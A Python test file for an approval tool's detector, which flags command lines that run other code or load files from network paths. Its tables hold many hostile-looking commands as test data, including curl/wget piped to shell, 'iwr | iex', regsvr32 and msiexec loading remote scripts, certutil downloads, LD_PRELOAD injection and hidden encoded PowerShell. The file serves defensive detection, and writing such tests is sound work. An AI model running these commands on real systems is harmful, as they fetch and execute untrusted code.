"""What a requester wants: a command that runs another one, and an approver who doesn't notice."""

import pytest

from approvals.letters.code_options import CODE_OPTIONS, POWERSHELL
from approvals.letters.command_signs import code_from_command_line, holds_network_path
from approvals.letters.execution import Execution
from approvals.letters.signs import signs
from tests.approvals.letters.test_signs import NOW, UTC
from tests.factories import make_plea, make_request, signed_in

CODE = {
    "bash -s": "bash -s -- --quiet",
    "bash -es": "bash -o pipefail -es",
    "bash -": "sudo bash -",
    "bash --rcfile": "bash --rcfile /tmp/x -i",
    "bash --init-file": "bash --init-file=/tmp/x",
    "bash /dev/fd/63": "bash /dev/fd/63",
    "python -": "/usr/bin/python3.11 -I -",
    "python /dev/stdin": "python3 /dev/stdin",
    "ipython -c": "ipython3 -c print(1)",
    "find -exec": "find /tmp -name x -exec id {} ;",
    "find -execdir": "find . -execdir id ;",
    "fdfind -x": "fdfind pattern -x id",
    "gawk BEGIN{system": 'gawk BEGIN{system("id")}',
    "awk getline": "awk '{\"id\"|getline x}' /etc/hosts",
    "tar --checkpoint-action": "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=id",
    "tar --to-command": "tar xf a.tar --to-command=id",
    "git core.pager": "git -c core.pager=id log",
    "git alias.x": "git -c alias.x=!id x",
    "git core.hooksPath": "git config --global core.hooksPath /tmp",
    "git ext::id": "git clone ext::id",
    "env -S": "env -S 'id -u'",
    "env -iS": "env -iS id",
    "env LD_PRELOAD": "env LD_PRELOAD=/tmp/x.so id",
    "sudo BASH_ENV": "sudo BASH_ENV=/tmp/x id",
    "xargs sh": "xargs -n1 sh",
    "xargs /bin/bash": "xargs /bin/bash",
    "perl -e": "perl -e 1",
    "perl -Mx": "perl -Mx y.pl",
    "ruby -e": "ruby -e 1",
    "ruby -rx": "ruby -rx y.rb",
    "node -e": "node -e 1",
    "node -p": "node -p 1",
    "node --require": "node --require=/tmp/x.js app.js",
    "php -r": "php -r 1;",
    "mshta \\\\host\\x.hta": "mshta \\\\host\\x.hta",
    "mshta javascript:close": "mshta javascript:close()",
    "rundll javascript:x": "rundll32.exe javascript:x",
    "regsvr /i:http://x/y.sct": "regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll",
    "regsvr scrobj.dll": "regsvr32 /s scrobj.dll",
    "msiexec http://x/y.msi": "msiexec /q /i http://x/y.msi",
    "msiexec /ihttp://x/y.msi": "msiexec /q /ihttp://x/y.msi",
    "msiexec \\\\host\\y.msi": "msiexec /q /i \\\\host\\y.msi",
    "certutil -urlcache": "certutil -urlcache -f x y",
    "certutil /decode": "certutil.exe /decode a b",
    "bitsadmin /transfer": "bitsadmin /transfer job x y",
    "| sh": "curl -fsSL x | sh",
    "| bash": "wget -qO- x | sudo -E bash",
    "| python": "curl x|python3",
    "| iex": "iwr x | iex",
    "ssh ProxyCommand": "ssh -o ProxyCommand=id host",
    "ssh -oLocalCommand": "ssh -oLocalCommand=id host",
    "rsync -e": "rsync -e id a b:",
    "rsync -avze": "rsync -avze id a b:",
    "rsync --rsh": "rsync --rsh=id a b:",
    "vim -c": "vim -c :!id",
    "vim +:!id": "vim +:!id x",
    "gdb -ex": "gdb -ex shell",
    "emacs --eval": "emacs --eval 1",
}
ORDINARY = (
    *(
        "bash install.sh -s",
        "sh ./configure --prefix=/usr",
        "bash -x setup.sh",
        "python3 setup.py install",
    ),
    *(
        "python -m pip install requests",
        "python3 -W ignore manage.py migrate",
        "apt-get install -y bash git vim",
    ),
    *(
        "git -c user.name=x pull",
        "git clone --depth 1 repo",
        "git config --global user.name x",
        "git add alias.x",
    ),
    *(
        "tar -xzf a.tgz --strip-components=1",
        "tar --exclude=x -cf a.tar .",
        "find /var/log -name *.log -mtime +7 -delete",
    ),
    *(
        "awk {print$1} system.log",
        "gawk -f report.awk",
        "env LANG=C make",
        "sudo systemctl restart nginx",
    ),
    *(
        "xargs rm -f",
        "rsync -av --delete --exclude=x a b",
        "ssh -p 22 -o StrictHostKeyChecking=yes host",
    ),
    *(
        "vim +12 /etc/hosts",
        "perl Makefile.PL",
        "ruby script.rb --run",
        "node server.js --port 80",
        "php artisan migrate",
    ),
    *(
        "msiexec /i C:\\x.msi /qn",
        "regsvr32 /s x.dll",
        "certutil -addstore root ca.cer",
        "rundll32 shell32.dll,Control_RunDLL",
    ),
    *(
        "setup.exe /S /v/qn /norestart",
        "cat a.txt | grep python",
        "npm install",
        "schtasks /query",
        "docker run -e ENV=x img",
    ),
)
NETWORK = (
    *(
        "\\\\host\\share\\x",
        "//host/share/x",
        "/\\host\\share",
        "\\\\?\\UNC\\host\\share",
        "/D=\\\\host\\share",
    ),
    *(
        "/LOG:\\\\host\\share\\x",
        "/D:\\\\10.0.0.1\\c$",
        "\\\\host@SSL\\DavWWWRoot\\x",
        '/v"X=\\\\host\\x"',
    ),
)
LOCAL = (
    *(
        "C:\\x\\y",
        "C:\\\\Program Files\\\\x",
        "\\\\?\\C:\\x\\y",
        "\\\\.\\pipe\\x",
        "/DIR=C:\\\\Temp\\\\a",
    ),
    *("https://example.com/x", "a//b/c", "/S", "//", "\\x\\y"),
)


@pytest.mark.parametrize(("found", "command"), CODE.items(), ids=CODE)
def test_run_another_command_by_an_option(found: str, command: str) -> None:
    assert code_from_command_line(command.split(" ")) == found.replace('"', "")[:40]


@pytest.mark.parametrize("command", ORDINARY)
def test_an_ordinary_command_runs_no_other(command: str) -> None:
    assert code_from_command_line(command.split(" ")) == ""


@pytest.mark.parametrize("word", NETWORK)
def test_fetch_a_file_from_another_computer(word: str) -> None:
    run = Execution("C:\\a.exe", on_windows=True, arguments=(word,))
    [sign] = signs(run, signer=None, now=NOW, zone=UTC)
    assert sign.title == "A network path in the command line"


@pytest.mark.parametrize("word", LOCAL)
def test_a_local_path_is_no_network_path(word: str) -> None:
    assert not holds_network_path([word])


def test_on_linux_two_slashes_are_one() -> None:
    run = Execution("/bin/ls", arguments=("//host/share",))
    assert signs(run, signer=None, now=NOW, zone=UTC) == ()


def test_run_the_program_from_another_computer() -> None:
    [sign] = signs(Execution("\\\\host\\share\\a.exe"), signer=None, now=NOW, zone=UTC)
    assert sign.title == "Runs from a network folder"


@pytest.mark.parametrize("letter", ["s", "e", "-", "/", "\\", "|", "+", "a/", "M", "x."])
def test_make_the_reading_of_a_long_command_slow(letter: str) -> None:
    """Quadratic time would take hours."""
    long = letter * 50_000
    found_at_once = {"mshta", "xargs", "parallel", *POWERSHELL}
    programs = [program for program in CODE_OPTIONS if program not in found_at_once]
    for word in (long, f"-{long}!", f"/{long} ", f"|{long}"):
        holds_network_path([word])
        code_from_command_line([*programs, word])


@pytest.mark.django_db
def test_an_encoded_command_stands_in_the_list_behind_a_lesser_sign() -> None:
    """Hidden characters in the reason are all that the row would speak of."""
    command_line = f"powershell.exe -w hidden -enc {'QQBB' * 900}"
    make_request(reason="Need it\nsoon", plea=make_plea(command_line=command_line))
    page = signed_in("Helpdesk").get("/approvals/").content.decode()
    assert "Encoded PowerShell, Hidden window" in page
